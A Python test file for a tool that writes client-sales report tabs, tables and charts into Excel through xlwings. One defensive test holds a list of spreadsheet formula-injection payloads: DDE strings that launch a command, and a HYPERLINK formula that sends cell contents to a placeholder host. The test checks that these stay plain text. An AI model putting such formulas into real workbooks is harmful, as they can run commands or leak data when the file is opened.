"""The xlwings Lite writer (cell ranges through xlwings) against xlwings' real signatures."""

import datetime as dt
import re
from typing import Any
from unittest import mock

import xlwings as xw

from clientbase_xl.excel.cell_writer import CHART_TYPES, write_cells
from clientbase_xl.excel.gateway import XlwingsGateway
from clientbase_xl.inputs.problems import Problem, Problems
from clientbase_xl.inputs.raw import column_letter
from clientbase_xl.inputs.validate import BLANK, BLANK_FIX, UNCALCULATED, UNCALCULATED_FIX
from clientbase_xl.refresh import errors_tab, refresh
from clientbase_xl.report.layout import lay_out
from clientbase_xl.tabs import TABS
from tests.conftest import linked_text
from tests.excel import fakes
from tests.excel.fakes import SALES, book_with, fake_book, sheets_with


def test_refresh_writes_each_block_in_one_transfer_and_never_touches_inputs() -> None:
    book, rec = book_with()
    outcome = refresh(XlwingsGateway(book, lite=True))
    assert outcome.lang == "ru"  # from the Settings sheet
    blocks = sum(len(t.spec.blocks) for t in outcome.tabs)
    assert len(rec.writes) == blocks
    assert {w[0] for w in rec.writes} == {t.spec.title("ru") for t in outcome.tabs}
    names = [s.name for s in book.made]
    assert names[:2] == ["Продажи", "Settings"]
    assert names[2:] == [t.title("ru") for t in TABS[:-1]]
    for sheet in book.made[:2]:
        sheet.clear.assert_not_called()
        sheet.delete.assert_not_called()
    segments = book.made[names.index("Сегменты")]
    added = [c.kwargs["name"] for c in segments.tables.add.call_args_list]
    assert added == ["cb_segments_clients"]
    # The header row of the Segments table, in Russian, at row 5 (title, note, blank, block title).
    write = next(w for w in rec.writes if w[0] == "Сегменты")
    assert write[1:3] == (5, 1)
    assert write[3][0][:3] == ["Место", "Клиент", "Наименование"]


def test_a_second_refresh_reuses_the_sheets_and_switches_their_language() -> None:
    book, _ = book_with()
    refresh(XlwingsGateway(book, lite=True))
    count = len(book.made)
    refresh(XlwingsGateway(book, lite=True), lang="en")
    assert len(book.made) == count
    assert [s.name for s in book.made[2:4]] == ["Dashboard", "Actions"]
    book.made[3].clear.assert_called()


def test_tables_kept_through_a_clear_are_resized_not_added_twice() -> None:
    book, _ = book_with()
    refresh(XlwingsGateway(book, lite=True), only={"pareto"})
    pareto = book.made[-1]
    kept = []
    for call in pareto.tables.add.call_args_list:
        table = mock.create_autospec(xw.main.Table, instance=True)
        table.name = call.kwargs["name"]
        kept.append(table)
    pareto.tables.__iter__.side_effect = lambda: iter(kept)
    pareto.tables.add.reset_mock()
    refresh(XlwingsGateway(book, lite=True), only={"pareto"})
    pareto.tables.add.assert_not_called()
    for table in kept:
        table.resize.assert_called_once()


def test_refresh_selected_replaces_only_the_ticked_tabs() -> None:
    book, rec = book_with()
    refresh(XlwingsGateway(book, lite=True), only={"nps"})
    assert {w[0] for w in rec.writes} == {"NPS"}


def test_charts_are_real_excel_charts_redrawn_on_each_refresh() -> None:
    book, _ = book_with()
    outcome = refresh(XlwingsGateway(book, lite=True))
    sheet = next(s for s in book.made if s.name == "Сводка")
    dashboard = next(t for t in outcome.tabs if t.spec.key == "dashboard")
    expected = [c for c in dashboard.spec.charts if not dashboard.frames[c.block].empty]
    assert len(sheet.drawn) == len(expected) >= 3
    types = [c.chart_type for c in sheet.drawn]
    assert types == [CHART_TYPES[c.kind] for c in expected]
    # The ABC-share chart's source: the month column, then one area per class column.
    source = sheet.drawn[0].set_source_data.call_args.args[0].address
    assert source.startswith("$A$") and source.count(",") == len(ctx_letters(dashboard))
    assert sheet.drawn[0].name == "Доли выручки по классам ABC"
    tops = [c.top for c in sheet.drawn]
    assert tops == sorted(tops) and len(set(tops)) == len(tops)  # one under the other
    refresh(XlwingsGateway(book, lite=True))
    assert len(sheet.drawn) == len(expected)  # the old charts were deleted, not piled up


def ctx_letters(tab: Any) -> list[str]:
    """The ABC class columns the Dashboard's classes block holds."""
    return [c for c in tab.frames["classes"].columns if c != "month"]


PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "02429",
]


def test_text_from_the_inputs_stays_text_in_excel() -> None:
    sales = [SALES[0]] + [
        [dt.datetime(2025, 1 + i % 3, 10), client, 100.0 + i, manager]
        for i, (client, manager) in enumerate(zip(PAYLOADS, reversed(PAYLOADS), strict=True))
    ]
    book, rec = book_with(sales)
    refresh(XlwingsGateway(book, lite=True))
    # The only formulas are the product's own: links whose shown text is a quoted literal
    # (the id, quotes doubled) and the card's lookups, which hold cell references only.
    lookup = re.compile(r'=IFERROR\(IF\(INDEX\([$A-Z0-9:,()&"=]+\),""\)')
    linked = []
    for *_, text in rec.formulas:
        shown = linked_text(text)
        assert shown is not None or lookup.fullmatch(text), text
        if shown is not None:
            linked.append(shown)
    assert set(PAYLOADS) <= set(linked)
    segments = next(s for s in book.made if s.name == "Сегменты")
    shown = {v for v in segments.grid.cells.values() if isinstance(v, str)}
    # Names are kept exactly, without the prefix that kept them text (ids are links).
    assert set(PAYLOADS) <= shown | set(linked)


def _mark(sheet: Any) -> str | None:
    return next((n.refers_to for n in sheet.names if n.name.endswith("!_cb_tab")), None)


def test_a_user_sheet_named_like_a_tab_survives_and_tabs_carry_marks() -> None:
    book, _ = fake_book([*sheets_with(), ("Сегменты", [["мои заметки"]], {})])
    refresh(XlwingsGateway(book, lite=True))
    names = [s.name for s in book.made]
    assert names.count("Сегменты") == 1 and "Сегменты (2)" in names
    mine = book.made[names.index("Сегменты")]
    mine.clear.assert_not_called()
    mine.delete.assert_not_called()
    assert _mark(mine) is None
    assert _mark(book.made[names.index("Сегменты (2)")]) == '="segments|Сегменты (2)"'
    refresh(XlwingsGateway(book, lite=True))
    assert [s.name for s in book.made] == names


def test_a_tab_the_user_renamed_is_kept_and_gives_its_table_name_up() -> None:
    book, _ = book_with()
    refresh(XlwingsGateway(book, lite=True), only={"pareto"})
    pareto = book.made[-1]
    table = mock.create_autospec(xw.main.Table, instance=True)
    table.name = "cb_pareto_curve"
    pareto.tables.__iter__.side_effect = lambda: iter([table])
    pareto.name = "Парето окт"
    refresh(XlwingsGateway(book, lite=True), only={"pareto"})
    names = [s.name for s in book.made]
    assert "Парето окт" in names and "Парето" in names
    pareto.clear.assert_not_called()
    assert table.name == "cb_pareto_curve_2"
    new = book.made[names.index("Парето")]
    assert "cb_pareto_curve" in [c.kwargs["name"] for c in new.tables.add.call_args_list]


def test_long_texts_wrap_and_their_rows_grow_as_the_file_writer_makes_them(
    monkeypatch: Any,
) -> None:

    made: list[Any] = []
    real = fakes.FakeRange.resize

    def resized(self: Any, *args: Any) -> Any:
        made.append(real(self, *args))
        return made[-1]

    monkeypatch.setattr(fakes.FakeRange, "resize", resized)
    book, _ = book_with()
    problems = Problems(
        [
            Problem("Sales", 3, "Amount (C)", "=D3*E3", UNCALCULATED, UNCALCULATED_FIX),
            Problem("Sales", 4, "Client (B)", "", BLANK, BLANK_FIX),
            Problem("Sales", 5, "Client (B)", "", BLANK, BLANK_FIX),
        ]
    )
    write_cells(book, [errors_tab(problems, "en")], "en", "", set())
    wrapped = {(r.column, r.row, r.shape) for r in made if r.__dict__.get("wrap_text")}
    # Problem and fix (columns F and G) wrap over the three data rows 6-8 (header in row 5).
    assert wrapped == {(6, 6, (3, 1)), (7, 6, (3, 1))}
    heights = {
        (r.row, r.shape[0]): r.__dict__["row_height"] for r in made if "row_height" in r.__dict__
    }
    # The formula's texts take three lines (45 points); the two blanks one each: no height set.
    assert heights == {(6, 1): 45}


def test_each_note_is_merged_over_the_width_the_file_writer_gives_it() -> None:
    book, rec = book_with()
    outcome = refresh(XlwingsGateway(book, lite=True))
    merged = dict(rec.merged)
    for tab in outcome.tabs:
        layout = lay_out(tab)
        span = layout.span(tab.spec.print_through)
        title = tab.spec.title(outcome.lang)
        # The note in A2 across the tables' columns (the Client card: its printed ones).
        expected = f"$A$2:${column_letter(span - 1)}$2" if span > 1 else None
        assert merged.get(title) == expected, title
